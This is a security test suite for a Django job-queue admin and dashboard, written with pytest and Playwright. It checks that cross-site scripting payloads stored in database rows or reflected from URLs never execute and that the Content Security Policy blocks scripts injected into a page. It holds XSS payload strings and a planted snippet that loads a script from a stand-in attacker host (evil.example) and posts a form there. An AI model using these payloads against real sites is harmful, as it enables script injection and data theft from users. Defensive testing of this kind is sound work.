"""Texts that want to be scripts, in a real browser and in every page's source."""

import json
from typing import Any
from urllib.parse import quote

import pytest
from django.contrib.admin.utils import quote as escaped
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from playwright.sync_api import Page, expect

from jobs.models import Attempt, AuditEntry, Job, Queue, Schedule, Worker
from tests.admin.conftest import page as admin_page
from tests.browsing import Complaints, log_in
from tests.factories import make_job
from tests.support import eventually

ADD = "tests.tasks.add"
RUNS = "window.owned=1"
HOSTILE = f"'\"></script><script>{RUNS}</script><img src=x onerror={RUNS}>{{{{7*7}}}}"
LINK = f"javascript:{RUNS}//<svg onload={RUNS}>"
MODELS = ("job", "deadletter", "attempt", "queue", "worker", "schedule", "auditentry")


@pytest.fixture
def hostile_rows(transactional_db: None) -> dict[str, Any]:
    """One row of each model that says hostile things wherever a text may stand; the key of each."""
    dead = make_job("dead", task=ADD, args=[1])
    Job.objects.filter(pk=dead.pk).update(
        args=[HOSTILE, {HOSTILE: LINK}], kwargs={HOSTILE: HOSTILE, "url": LINK},
        task=HOSTILE[:128], queue=HOSTILE[:128], worker=HOSTILE, reason=HOSTILE, subject=LINK, tenant=HOSTILE,
        unique_key=HOSTILE, correlation_id=HOSTILE[:128], trace=LINK, enqueued_by=LINK, tags=[HOSTILE, LINK],
        meta={HOSTILE: LINK}, result={"x": HOSTILE}, progress={"done": HOSTILE},
    )  # fmt: skip
    Attempt.objects.filter(job=dead).update(
        traceback=HOSTILE, message=HOSTILE, exception_class=HOSTILE, worker=HOSTILE, host=LINK,
        code_version=HOSTILE[:64], queue=HOSTILE[:128],
    )  # fmt: skip
    now = timezone.now()
    queue = Queue.objects.create(name=HOSTILE[:128], paused_at=now, paused_by=HOSTILE, paused_reason=LINK)
    worker = Worker.objects.create(
        id=HOSTILE[:100], pool="p", node=HOSTILE, host=LINK, pid=1, queues=[HOSTILE],
        runs=[{"job": LINK, "seconds": 1}], code_version=HOSTILE[:64],
    )  # fmt: skip
    schedule = Schedule.objects.create(
        name=HOSTILE[:100], task=HOSTILE[:128], args=[HOSTILE], kwargs={HOSTILE: LINK}, cron="0 3 * * *",
        queue=HOSTILE[:128], last_error=HOSTILE,
    )  # fmt: skip
    entry = AuditEntry.objects.create(
        actor=HOSTILE, action="retry", target=f"job {dead.pk}", reason=HOSTILE, before={HOSTILE: LINK},
        after={"state": HOSTILE},
    )  # fmt: skip
    keys = [dead.pk, dead.pk, Attempt.objects.get().pk, queue.pk, worker.pk, schedule.pk, entry.pk]
    return dict(zip(MODELS, keys, strict=True))


def addresses(keys: dict[str, Any]) -> list[str]:
    """Return every page that shows these rows, and some that show what their address says."""
    parts = [admin_page(model) for model in keys]
    for model, key in keys.items():
        parts += [reverse(f"admin:jobs_{model}_{view}", args=[escaped(key)]) for view in ("change", "history")]
    said = quote(HOSTILE)
    reflected = [admin_page("job") + f"?{query}" for query in (f"q={said}", f"queue={said}&task={said}")]
    reflected += [f"/{said}", f"/?{said}={said}"]
    names = ("jobs", "failures", "queues", "workers", "schedules", "tasks", "operations")
    own = ["/", *(f"/{name}/" for name in names)]
    own += [f"/jobs/{keys['job']}/", f"/jobs/?q={said}", f"/jobs/?q=task:{said}", f"/jobs/suggest/?q=task:{said}"]
    own += [reverse(f"dashboards:{name}", args=[HOSTILE[:128]]) for name in ("queue", "task")]
    own += [f"/jobs/{keys['job']}/edit/", f"/schedules/{keys['schedule']}/edit/"]
    return [*own, *parts, admin_page("job", keys["job"], "edit"), *reflected]


@pytest.fixture
def looking(page: Page, web_server: str, operator: User) -> Page:
    """A browser in which the operator is logged in."""
    log_in(page, web_server, operator)
    return page


def assert_nothing_ran(page: Page) -> None:
    assert page.evaluate("window.owned") is None, page.url
    assert page.locator("[onerror], [onload], img[src=x], a[href^=javascript]").count() == 0, page.url
    assert "script>" not in page.evaluate("[...document.scripts].map(s => s.src).join()"), page.url


@pytest.mark.slow
@pytest.mark.one_ledger
def test_no_hostile_text_runs_in_a_browser(
    looking: Page, hostile_rows: dict[str, Any], complaints: Complaints
) -> None:
    complaints.allow("404 (Not Found)")  # hostile addresses lead nowhere
    shown = [address for address in addresses(hostile_rows) if "history" not in address and "worker" not in address]
    for address in shown:
        looking.goto(address)
        assert "Server Error" not in looking.content()
        assert_nothing_ran(looking)
    # the overview pulls its rows again and again
    looking.goto("/")
    expect(looking.locator("#letters")).to_contain_text(HOSTILE[:20])
    expect(looking.locator("#queues")).to_contain_text(HOSTILE[:20])
    assert_nothing_ran(looking)
    # the question before a verb, and its answer
    looking.goto(admin_page("deadletter", hostile_rows["job"], "change"))
    looking.locator("form[action$='/verb/discard/'] button").click()
    assert_nothing_ran(looking)
    looking.locator("[name=reason]").fill(HOSTILE)
    looking.locator("input[type=submit][value=Discard]").click()
    expect(looking.locator(".messagelist")).to_be_visible()
    assert_nothing_ran(looking)
    assert Job.objects.get(pk=hostile_rows["job"]).state == "cancelled"


PLANT = """
window.violations = [];
document.addEventListener("securitypolicyviolation", e => window.violations.push(e.violatedDirective));
const script = document.createElement("script"); script.textContent = "window.owned = 1";
const image = document.createElement("div"); image.innerHTML = "<img src=x onerror='window.owned = 2'>";
const far = document.createElement("script"); far.src = "https://evil.example/x.js";
const style = document.createElement("style"); style.textContent = "body { color: red }";
const form = document.createElement("form"); form.action = "https://evil.example/"; form.method = "post";
document.body.append(script, image, far, style, form);
form.submit();
setTimeout(() => { throw new Error("planted"); });
"""


@pytest.mark.slow
@pytest.mark.one_ledger
def test_the_policy_stops_a_script_that_got_into_a_page(looking: Page, complaints: Complaints) -> None:
    told = ("Content Security Policy", "request to another host: https://evil.example/", "uncaught planted")
    for part in (*told, "404 (Not Found)"):
        complaints.allow(part)
    for address in ("/", "/admin/", "/admin/jobs/job/", "/admin/password_change/"):
        looking.goto(address)
        looking.evaluate(PLANT)
        eventually(lambda: looking.evaluate("window.violations.length") >= 5)
        stopped = {name.removesuffix("-elem") for name in looking.evaluate("window.violations")}
        assert {"script-src", "script-src-attr", "style-src", "form-action"} <= stopped
        assert looking.evaluate("window.owned") is None
    # any of these would fail a test that plants nothing
    assert all(any(part in text for text in complaints.texts) for part in told), complaints.texts


@pytest.mark.slow
@pytest.mark.one_ledger
def test_the_admins_own_pages_need_nothing_inline(
    page: Page, web_server: str, administrator: User, hostile_rows: dict[str, Any]
) -> None:
    log_in(page, web_server, administrator)
    own = ["", "auth/user/", "auth/user/add/", f"auth/user/{administrator.pk}/change/", "auth/group/add/"]
    own += [f"auth/user/{administrator.pk}/delete/", f"auth/user/{administrator.pk}/password/", "password_change/"]
    for address in [*(f"/admin/{path}" for path in own), *addresses(hostile_rows)[:3]]:
        page.goto(address)


@pytest.mark.django_db
@pytest.mark.usefixtures("memory_transport")
def test_every_answer_escapes_or_is_json(operating: Client, hostile_rows: dict[str, Any]) -> None:
    for address in addresses(hostile_rows):
        answer = operating.get(address, follow=True)
        assert answer.status_code in (200, 404), address
        said = answer.content.decode()
        for wanted in ("<script>window", f"onerror={RUNS}>", "<svg onload", "href=\"javascript", "href='javascript"):
            assert wanted not in said, (address, wanted)
    answer = operating.get("/snapshot.json")
    assert answer.headers["Content-Type"] == "application/json"
    assert HOSTILE in json.dumps(json.loads(answer.content), ensure_ascii=False).replace('\\"', '"')
    said = operating.get("/metrics").content.decode()
    assert "\n<" not in said
